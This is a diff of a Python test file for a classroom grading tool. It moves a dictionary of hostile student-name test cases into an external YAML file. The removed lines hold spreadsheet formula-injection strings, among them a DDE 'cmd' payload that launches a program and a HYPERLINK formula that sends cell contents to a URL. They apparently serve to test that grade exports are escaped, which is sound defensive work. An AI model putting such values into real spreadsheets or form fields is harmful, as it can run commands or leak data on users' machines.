@@ -11,6 +11,7 @@ from pathlib import Path
 from typing import Any
 
 import pytest
+import yaml
 
 from grader.classroom.final_points import HandIn, unadjusted
 from grader.classroom.grading_terms import Run
@@ -43,23 +44,8 @@ UNITS = [
     ("03_masks", "3. Masks; dropout", ["causal_mask", "kv_cache"]),
 ]
 
-HOSTILE_NAMES = {
-    "comma": "Lovelace, Ada",
-    "quote": 'Ana "Ann" O\'Neill',
-    "newline": "two\nlines\r\nhere",
-    "formula": '=HYPERLINK("http://example.org/?"&A1,"me")',
-    "plus": "+1+cmd|' /C calc'!A0",
-    "minus": "-2+3",
-    "at": "@SUM(1,2)",
-    "tab": "\t=1+1",
-    "carriage-return": "\r=1+1",
-    "full-width": "\uff1d1+1",
-    "leading-blank": " =1+1",
-    "emoji": "Zoë 🦊 林美玲",
-    "right-to-left": "\u202eadA",
-    "points-possible": "Points Possible",
-    "control": "bell\x07",
-}
+CASES: dict[str, dict[str, Any]] = yaml.safe_load(Path(__file__).with_name("cases.yml").read_text("utf-8"))
+HOSTILE_NAMES: dict[str, str] = CASES["names"]
 
 
 def check(name: str, points: float, worth: float, outcome: Outcome | None = None, message: str = "") -> CheckResult:
